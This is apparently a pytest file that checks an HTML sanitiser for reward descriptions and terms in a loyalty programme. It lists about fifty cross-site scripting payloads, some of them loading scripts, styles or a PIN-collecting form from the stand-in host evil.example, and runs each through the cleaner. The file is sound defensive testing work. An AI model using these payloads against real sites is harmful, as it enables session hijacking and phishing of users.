"""Descriptions and terms keep text and lists, and nothing that runs or loads (SECURITY.md B11)."""

import re
from itertools import product

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from loyalty.features.rewards.programme import TAGS, clean
from support.factories import a_reward

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' /",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=pin><button>OK</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
    "<b id=location name=cookie>x</b>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<<b>script>alert(1)<</b>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\x00<script>alert(1)</script>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot onslotchange=alert(1)>x</slot>",
]
AROUND = ["{}", "<p>{}</p>", "<ul><li>{}</li></ul>", "<b><i>{}</b></i>"]
_TAG = re.compile(r"<(/?)([a-z0-9]*)([^>]*)>", re.IGNORECASE)


def assert_harmless(text: str) -> None:
    """Every sign that opens a tag opens one of ours, without attributes."""
    opened = _TAG.findall(text)
    assert text.count("<") == len(opened)
    for _, name, attributes in opened:
        assert (name in TAGS, attributes) == (True, ""), text


@pytest.mark.parametrize(("script", "around"), list(product(SCRIPTS, AROUND)))
def test_nothing_that_runs_or_reaches_out_is_kept(script, around):
    assert_harmless(clean(around.format(script)))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*SCRIPTS, "<p>", "</p>", "<b", ">", "&", "x"]), max_size=6).map("".join))
def test_no_mixture_is_kept_either_and_cleaning_twice_changes_nothing(text):
    once = clean(text)
    assert_harmless(once)
    assert clean(once) == once


def test_what_an_operator_means_is_kept():
    output = (
        "<h3>Terms</h3><ul><li><b>One</b> a bill</li><li>R&amp;D &lt; 5</li></ul><p>Nasi<br>Lemak – ข้าว</p>"
    )
    assert clean(output) == output


def test_a_reward_is_clean_wherever_it_is_read(client, database):
    reward = a_reward(
        database, description="<p>Hot<script>alert(1)</script></p>", terms="<b onclick=x()>Now</b>"
    )
    found = client.get(f"/api/reward/{reward}").json
    assert (found["description"], found["termAndCondition"]) == ("<p>Hot</p>", "<b>Now</b>")
